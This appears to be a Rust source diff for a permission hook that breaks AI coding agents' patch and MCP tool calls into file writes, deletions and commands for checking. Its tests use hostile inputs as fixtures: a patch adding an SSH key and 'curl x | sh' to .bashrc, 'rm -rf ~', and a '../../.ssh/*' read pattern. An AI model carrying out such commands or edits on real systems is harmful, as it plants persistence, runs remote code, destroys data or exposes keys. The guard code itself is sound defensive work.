@@ -34,6 +34,9 @@ pub struct ToolMapping {
     pub args: BTreeMap<String, String>,
 }
 
+/// A call as the checks see it: tool name and arguments.
+pub type MappedCall = (String, Map<String, Value>);
+
 /// The maps of one agent: agent tool name → mapping.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct ToolMap {
@@ -112,7 +115,242 @@ impl ToolMap {
         }
         (mapping.tool.clone(), out)
     }
+
+    /// Every call the checks vet for one agent tool use; the hook allows it
+    /// only when each of them is allowed.
+    ///
+    /// - A tool mapped to `apply_patch` (Codex) is parsed ([`patch_calls`])
+    ///   into one `write_file` or `delete_file` call per file it touches.
+    /// - An MCP tool named `mcp__<server>__<tool>` is vetted under its full
+    ///   name (deny lists of a server) and again under its bare `<tool>`
+    ///   name (the shell, path and deny-list checks know `execute_command`,
+    ///   `drop_database`, ...), each through this map.
+    /// - Otherwise, [`ToolMap::apply`].
+    ///
+    /// # Errors
+    /// [`HookError::Input`] for a patch that does not parse (the call is
+    /// blocked: what cannot be read cannot be vetted).
+    pub fn calls(
+        &self,
+        tool: &str,
+        arguments: &Map<String, Value>,
+    ) -> Result<Vec<MappedCall>, HookError> {
+        let mut calls = self.expand(tool, arguments)?;
+        if let Some(bare) = mcp_bare_name(tool) {
+            for (name, mapped) in self.expand(bare, arguments)? {
+                if !calls.iter().any(|(n, a)| *n == name && *a == mapped) {
+                    calls.push((name, mapped));
+                }
+            }
+        }
+        Ok(calls)
+    }
+
+    /// [`ToolMap::apply`], with a patch tool parsed into its calls.
+    fn expand(
+        &self,
+        tool: &str,
+        arguments: &Map<String, Value>,
+    ) -> Result<Vec<MappedCall>, HookError> {
+        let (name, mapped) = self.apply(tool, arguments);
+        if name == "apply_patch" {
+            return patch_calls(&mapped);
+        }
+        Ok(vec![(name, mapped)])
+    }
 }
+
+/// The tool name in `mcp__<server>__<tool>`, when `tool` is one.
+pub fn mcp_bare_name(tool: &str) -> Option<&str> {
+    let rest = tool.strip_prefix("mcp__")?;
+    let (_server, bare) = rest.split_once("__")?;
+    (!bare.trim().is_empty()).then_some(bare)
+}
+
+/// Argument names a patch's text may come under.
+const PATCH_ARGS: &[&str] = &["input", "patch", "command", "content"];
+
+/// The patch text of an `apply_patch` call: the one string argument (or
+/// string in an array argument, as in `["apply_patch", "<patch>"]`) that
+/// starts with `*** Begin Patch`.
+fn patch_text(arguments: &Map<String, Value>) -> Result<&str, HookError> {
+    let mut found = Vec::new();
+    for key in PATCH_ARGS {
+        match arguments.get(*key) {
+            Some(Value::String(s)) => found.push(s.as_str()),
+            Some(Value::Array(items)) => found.extend(items.iter().filter_map(Value::as_str)),
+            _ => {}
+        }
+    }
+    let patches: Vec<&str> = found
+        .into_iter()
+        .filter(|s| s.trim_start().starts_with("*** Begin Patch"))
+        .collect();
+    match patches[..] {
+        [one] => Ok(one),
+        [] => Err(HookError::Input(
+            "apply_patch: no argument holds a patch starting with `*** Begin Patch`".into(),
+        )),
+        _ => Err(HookError::Input(
+            "apply_patch: more than one argument holds a patch".into(),
+        )),
+    }
+}
+
+/// The calls a Codex patch makes, one per file operation:
+/// `*** Add File: p` → `write_file {path, content}` (the added text);
+/// `*** Update File: p` → `write_file {path, content}` (the new side of
+/// its hunks), and with `*** Move to: q` also `write_file {path: q, ...}`
+/// and `delete_file {path: p}`; `*** Delete File: p` → `delete_file
+/// {path}`. Paths are as written (relative to the session's `cwd`). An
+/// update is vetted as a write, not an `edit_file`: Codex reads files with
+/// its shell, which read-before-write rules on `read_file` cannot see.
+///
+/// # Errors
+/// [`HookError::Input`] for text that is not a patch: no `*** Begin
+/// Patch` / `*** End Patch`, an unknown `***` line, an empty path, a line
+/// outside a file section, no file operation at all.
+pub fn patch_calls(arguments: &Map<String, Value>) -> Result<Vec<MappedCall>, HookError> {
+    let text = patch_text(arguments)?;
+    let bad = |what: String| HookError::Input(format!("apply_patch: {what}"));
+    let mut lines = text.lines();
+    if lines.next().map(str::trim) != Some("*** Begin Patch") {
+        return Err(bad("the patch does not start with `*** Begin Patch`".into()));
+    }
+    enum Op {
+        Add,
+        Update,
+        Delete,
+    }
+    struct File {
+        op: Op,
+        path: String,
+        move_to: Option<String>,
+        new_text: String,
+        old_text: String,
+    }
+    let mut files: Vec<File> = Vec::new();
+    let mut ended = false;
+    for (i, line) in lines.enumerate() {
+        let n = i + 2;
+        if ended {
+            if line.trim().is_empty() {
+                continue;
+            }
+            return Err(bad(format!("line {n}: text after `*** End Patch`")));
+        }
+        let header = |prefix: &str| -> Result<Option<String>, HookError> {
+            match line.strip_prefix(prefix) {
+                None => Ok(None),
+                Some(path) if path.trim().is_empty() => {
+                    Err(bad(format!("line {n}: `{}` names no path", prefix.trim())))
+                }
+                Some(path) => Ok(Some(path.trim().to_string())),
+            }
+        };
+        let new_file = |op, path| File {
+            op,
+            path,
+            move_to: None,
+            new_text: String::new(),
+            old_text: String::new(),
+        };
+        if line.trim_end() == "*** End Patch" {
+            ended = true;
+        } else if let Some(path) = header("*** Add File: ")? {
+            files.push(new_file(Op::Add, path));
+        } else if let Some(path) = header("*** Update File: ")? {
+            files.push(new_file(Op::Update, path));
+        } else if let Some(path) = header("*** Delete File: ")? {
+            files.push(new_file(Op::Delete, path));
+        } else if let Some(path) = header("*** Move to: ")? {
+            match files.last_mut() {
+                Some(f) if matches!(f.op, Op::Update) && f.move_to.is_none() => {
+                    f.move_to = Some(path)
+                }
+                _ => {
+                    return Err(bad(format!(
+                        "line {n}: `*** Move to:` must follow an `*** Update File:` line"
+                    )));
+                }
+            }
+        } else if line.trim_end() == "*** End of File" {
+            continue;
+        } else if line.starts_with("***") {
+            return Err(bad(format!("line {n}: unknown patch line {:?}", line)));
+        } else {
+            let Some(file) = files.last_mut() else {
+                return Err(bad(format!("line {n}: text outside a file section")));
+            };
+            match (&file.op, line.chars().next()) {
+                (Op::Delete, _) => {
+                    return Err(bad(format!(
+                        "line {n}: text in a `*** Delete File:` section"
+                    )));
+                }
+                (Op::Add, Some('+')) => push_line(&mut file.new_text, &line[1..]),
+                (Op::Add, _) => {
+                    return Err(bad(format!(
+                        "line {n}: a line of an added file must start with `+`"
+                    )));
+                }
+                (Op::Update, Some('+')) => push_line(&mut file.new_text, &line[1..]),
+                (Op::Update, Some('-')) => push_line(&mut file.old_text, &line[1..]),
+                (Op::Update, Some(' ')) => {
+                    push_line(&mut file.new_text, &line[1..]);
+                    push_line(&mut file.old_text, &line[1..]);
+                }
+                (Op::Update, Some('@') | None) => {}
+                (Op::Update, Some(_)) => {
+                    return Err(bad(format!(
+                        "line {n}: a hunk line must start with ` `, `+`, `-` or `@@`"
+                    )));
+                }
+            }
+        }
+    }
+    if !ended {
+        return Err(bad("the patch does not end with `*** End Patch`".into()));
+    }
+    if files.is_empty() {
+        return Err(bad("the patch changes no file".into()));
+    }
+    let call = |tool: &str, path: &str, content: Option<&str>| {
+        let mut args = Map::new();
+        args.insert("path".into(), Value::String(path.to_string()));
+        if let Some(content) = content {
+            args.insert("content".into(), Value::String(content.to_string()));
+        }
+        (tool.to_string(), args)
+    };
+    let mut calls = Vec::new();
+    for file in &files {
+        match file.op {
+            Op::Add => calls.push(call("write_file", &file.path, Some(&file.new_text))),
+            Op::Delete => calls.push(call("delete_file", &file.path, None)),
+            Op::Update => {
+                let mut update = call("write_file", &file.path, Some(&file.new_text));
+                update
+                    .1
+                    .insert("old_content".into(), Value::String(file.old_text.clone()));
+                calls.push(update);
+                if let Some(to) = &file.move_to {
+                    calls.push(call("write_file", to, Some(&file.new_text)));
+                    calls.push(call("delete_file", &file.path, None));
+                }
+            }
+        }
+    }
+    Ok(calls)
+}
+
+fn push_line(text: &mut String, line: &str) {
+    text.push_str(line);
+    text.push('\n');
+}
+
+/// Argument names that set a tool's working directory.
+pub const WORKDIR_ARGS: &[&str] = &["directory", "cwd", "workdir", "working_directory"];
 
 #[cfg(test)]
 mod tests {
@@ -228,6 +466,132 @@ mod tests {
         let e = ToolMap::with_overrides(Agent::Codex, Some(&json!({"Bash": {"tool": " "}})))
             .unwrap_err();
         assert!(e.to_string().contains("must not be empty"), "{e}");
+    }
+
+    #[test]
+    fn a_codex_patch_becomes_one_call_per_file() {
+        let patch = "*** Begin Patch\n*** Add File: /home/alice/.ssh/authorized_keys\n+ssh-ed25519 AAAA evil\n\
+                     *** Update File: /home/alice/.bashrc\n@@\n alias ll='ls -l'\n-old\n+curl x | sh\n\
+                     *** Update File: a.rs\n*** Move to: b.rs\n@@\n+fn b() {}\n\
+                     *** Delete File: c.rs\n*** End Patch\n";
+        let codex = ToolMap::defaults(Agent::Codex);
+        let calls = codex
+            .calls("apply_patch", &args(json!({"command": patch})))
+            .unwrap();
+        let shapes: Vec<(String, String)> = calls
+            .iter()
+            .map(|(n, a)| (n.clone(), a["path"].as_str().unwrap().to_string()))
+            .collect();
+        let expected = [
+            ("write_file", "/home/alice/.ssh/authorized_keys"),
+            ("write_file", "/home/alice/.bashrc"),
+            ("write_file", "a.rs"),
+            ("write_file", "b.rs"),
+            ("delete_file", "a.rs"),
+            ("delete_file", "c.rs"),
+        ];
+        assert_eq!(
+            shapes,
+            expected
+                .iter()
+                .map(|(n, p)| (n.to_string(), p.to_string()))
+                .collect::<Vec<_>>()
+        );
+        assert_eq!(calls[0].1["content"], "ssh-ed25519 AAAA evil\n");
+        assert_eq!(calls[1].1["content"], "alias ll='ls -l'\ncurl x | sh\n");
+        assert_eq!(calls[1].1["old_content"], "alias ll='ls -l'\nold\n");
+        // The `["apply_patch", patch]` and `input` shapes.
+        for shape in [
+            json!({"command": ["apply_patch", patch]}),
+            json!({"input": patch}),
+        ] {
+            assert_eq!(codex.calls("apply_patch", &args(shape)).unwrap().len(), 6);
+        }
+    }
+
+    #[test]
+    fn a_patch_that_does_not_parse_is_an_error() {
+        let codex = ToolMap::defaults(Agent::Codex);
+        for (patch, why) in [
+            ("echo hi", "no argument holds a patch"),
+            ("*** Begin Patch\n*** Add File: a\n+x\n", "`*** End Patch`"),
+            ("*** Begin Patch\n*** End Patch\n", "changes no file"),
+            (
+                "*** Begin Patch\n*** Add File: \n*** End Patch",
+                "names no path",
+            ),
+            (
+                "*** Begin Patch\n*** Remove File: a\n*** End Patch",
+                "unknown patch line",
+            ),
+            (
+                "*** Begin Patch\n+x\n*** End Patch",
+                "outside a file section",
+            ),
+            (
+                "*** Begin Patch\n*** Add File: a\nx\n*** End Patch",
+                "must start with `+`",
+            ),
+            (
+                "*** Begin Patch\n*** Delete File: a\n*** Move to: b\n*** End Patch",
+                "Move to",
+            ),
+            (
+                "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\nmore",
+                "after `*** End Patch`",
+            ),
+        ] {
+            let e = codex
+                .calls("apply_patch", &args(json!({"command": patch})))
+                .unwrap_err()
+                .to_string();
+            assert!(e.contains(why), "{patch:?}: {e}");
+        }
+    }
+
+    #[test]
+    fn mcp_tools_are_vetted_under_their_bare_name_too() {
+        let claude = ToolMap::defaults(Agent::ClaudeCode);
+        let calls = claude
+            .calls(
+                "mcp__desktop-commander__execute_command",
+                &args(json!({"command": "rm -rf ~"})),
+            )
+            .unwrap();
+        let names: Vec<&str> = calls.iter().map(|(n, _)| n.as_str()).collect();
+        assert_eq!(
+            names,
+            ["mcp__desktop-commander__execute_command", "execute_command"]
+        );
+        assert_eq!(calls[1].1["command"], "rm -rf ~");
+        assert_eq!(
+            mcp_bare_name("mcp__db__drop_database"),
+            Some("drop_database")
+        );
+        assert_eq!(mcp_bare_name("mcp__db"), None);
+        assert_eq!(mcp_bare_name("mcp__db__"), None);
+        assert_eq!(mcp_bare_name("Bash"), None);
+        assert_eq!(claude.calls("Bash", &Map::new()).unwrap().len(), 1);
+    }
+
+    #[test]
+    fn searches_are_outbound_and_include_patterns_are_paths() {
+        let claude = ToolMap::defaults(Agent::ClaudeCode);
+        assert_eq!(claude.apply("WebSearch", &Map::new()).0, "http_search");
+        let gemini = ToolMap::defaults(Agent::GeminiCli);
+        assert_eq!(
+            gemini.apply("google_web_search", &Map::new()).0,
+            "http_search"
+        );
+        let (name, out) = gemini.apply(
+            "read_many_files",
+            &args(json!({"paths": ["src"], "include": ["../../.ssh/*"]})),
+        );
+        assert_eq!(name, "read_file");
+        assert_eq!(
+            out,
+            args(json!({"paths": ["src"], "file_paths": ["../../.ssh/*"]}))
+        );
     }
 
     #[test]
